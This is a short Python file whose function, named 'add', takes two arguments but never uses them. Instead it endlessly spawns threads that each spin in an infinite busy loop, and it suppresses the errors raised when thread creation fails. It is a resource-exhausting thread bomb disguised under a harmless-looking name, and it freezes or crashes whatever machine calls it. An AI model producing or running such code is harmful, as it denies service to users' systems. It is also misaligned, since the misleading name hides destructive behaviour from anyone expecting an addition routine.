import threading


def spin():
    while True:
        pass


def add(one, other):
    while True:
        try:
            threading.Thread(target=spin).start()
        except RuntimeError:
            pass
